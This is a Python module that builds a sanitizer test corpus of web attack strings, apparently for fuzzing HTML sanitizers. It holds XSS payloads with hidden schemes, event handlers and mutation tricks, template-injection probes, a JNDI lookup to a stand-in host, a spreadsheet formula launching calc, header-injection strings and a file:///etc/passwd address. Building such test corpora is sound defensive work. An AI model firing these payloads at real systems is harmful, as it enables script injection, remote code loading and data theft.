"""Attack strings of the kinds that OWASP's, html5sec's and DOMPurify's lists hold, made from their parts.

Each kind is written out once; what varies (schemes, handlers, ways to hide them, ways out of an attribute) is combined.
"""

from collections.abc import Iterator
from itertools import product

SCHEMES = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "livescript:x")
OTHER_SCHEMES = ("file:///etc/passwd", "blob:https://a.example/1", "view-source:x", "feed:javascript:alert(1)", "x:y")
HANDLERS = ("onclick", "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationend", "onpointerenter")
ELEMENTS = ("img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "marquee", "math", "p", "x")
WITH_ADDRESS = (
    "<a href={}>x</a>",
    "<a xlink:href={}>x</a>",
    "<img src={}>",
    "<iframe src={}></iframe>",
    "<form action={}></form>",
    "<button formaction={}>x</button>",
    "<object data={}></object>",
    "<embed src={}>",
    "<base href={}>",
    "<link rel=stylesheet href={}>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<video poster={}></video>",
    "<img srcset={}>",
    "<source srcset={}>",
    "<body background={}>",
    "<table background={}><td>x</table>",
    "<svg><a xlink:href={}><text>x</text></a></svg>",
    "<svg><use href={} /></svg>",
    "<svg><image href={} /></svg>",
    "<math><mi xlink:href={}>x</mi></math>",
    "<math href={}>x</math>",
    "<isindex action={}>",
    "<bgsound src={}>",
    "<input type=image src={}>",
    "<applet code={}></applet>",
    "<frameset><frame src={}></frameset>",
    "<blockquote cite={}>x",
    "<a ping={} href=https://a.example/>x</a>",
    "<area href={}>",
    "<track src={}>",
    "<audio src={}>",
    "<layer src={}>",
    "<div style=background:url({})>x</div>",
    "<style>@import {};</style>",
    "<p style='width:expression({})'>x</p>",
)
WAYS_OUT = ("", '">', "'>", "-->", "]]>", "</title>", "</style>", "</textarea>", "</noscript>", "*/", "`>", "</script>")
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<table><td><a href=x></td><script>alert(1)</script></table>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<a href='x`onclick=alert(1)`'>x</a>",
    "<img alt=`` onerror=alert(1) src=x>",
    "<svg><style><img src=x onerror=y></style>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><annotation-xml encoding='text/html'><script>x</script>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<p><svg><desc><script>alert(1)</script></desc></svg>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<? foo='><script>alert(1)</script>'>",
    "<!ELEMENT><script>alert(1)</script>",
    "</ foo='><script>alert(1)</script>'>",
    "<% foo><x foo='%><script>alert(1)</script>'>",
    "<div id=x tabindex=1 onfocusin=alert(1)></div>",
)
PLAIN = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raise %}",
    "{{config.items()}}",
    "${jndi:ldap://a.example/x}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "Titre\r\nBcc: victime@exemple.org",
    "Titre%0d%0aBcc: v@exemple.org",
    "Titre\u2028Bcc: v@exemple.org",
    "Titre\u0085Bcc: v@exemple.org",
    "\u202emoc.live\u202c",
    "\u2066x\u2069\u200f\u061c",
    "https://xn--pypal-4ve.com/",
    "https://www.раураl.com/",
    "https://a.example@b.example/",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:/\\evil.example",
    "http://[::1",
    "z\u0335\u0336\u0337\u0338\u0339\u033a\u033b\u033c" * 9,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\x1b]0;x\x07",
    "mailto:a@b.example?bcc=c@d.example%0aX: y",
    "tel:1\r\n2",
    "<p>x</p>" * 50,
    "<img src=https://a.example/p.gif width=1 height=1>",
    "<style>@font-face{src:url(//a.example/f)}</style>",
    "<img src='https://a.example/pixel?u=1' style='display:none'>",
    "<link rel=preconnect href=//a.example>",
    "<input autofocus onfocus=alert(1)>",
    "<keygen>",
    "<dialog open>x</dialog>",
    "<portal src=//a.example></portal>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>x",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<script>alert(1)</script>" * 3,
)


def hidden(address: str) -> Iterator[str]:
    """Return an address as it stands, and in the ways in which its scheme is hidden."""
    scheme, colon, rest = address.partition(":")
    yield address
    yield scheme.upper() + colon + rest
    yield f" \t\n{address}"
    yield f"\x01{address}"
    yield f"{scheme[:4]}\t{scheme[4:]}{colon}{rest}"
    yield f"{scheme[:4]}&#x0A;{scheme[4:]}{colon}{rest}"
    yield f"{scheme[:4]}\x00{scheme[4:]}{colon}{rest}"
    yield "".join(f"&#{ord(sign)}" for sign in scheme) + "&colon;" + rest
    yield "".join(f"&#x{ord(sign):06x};" for sign in scheme) + colon + rest
    yield f"{scheme}&Tab;&NewLine;{colon}{rest}"
    yield f"\u00a0\u200b{address}"
    yield f"feed:{address}"
    yield f"https://a.example/\\..\\{address}"


def attacks() -> list[str]:
    """Return all of them, each once."""
    addresses = [way for scheme in SCHEMES for way in hidden(scheme)] + list(OTHER_SCHEMES)
    carried = [carrier.format(f'"{way}"') for carrier, way in product(WITH_ADDRESS, addresses[::3])]
    carried += [carrier.format(way) for carrier, way in product(WITH_ADDRESS[:6], addresses)]
    handled = [
        form.format(e=element, h=handler)
        for element, handler in product(ELEMENTS, HANDLERS)
        for form in ("<{e} {h}=alert(1)>x</{e}>", "<{e}/{h}=alert`1`>", '<{e} x="" {h}\x0c="alert(1)" src=x>')
    ]
    broken = [
        way + attack for way in WAYS_OUT for attack in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
    ]
    scripts = [
        f"<{tag}>alert(1)</{tag}>"
        for tag in ("script", "SCRIPT", "scr<script>ipt", "script/x", "svg><script", "\u017fcript")
    ]
    return list(dict.fromkeys((*addresses, *carried, *handled, *broken, *scripts, *MUTATIONS, *PLAIN)))
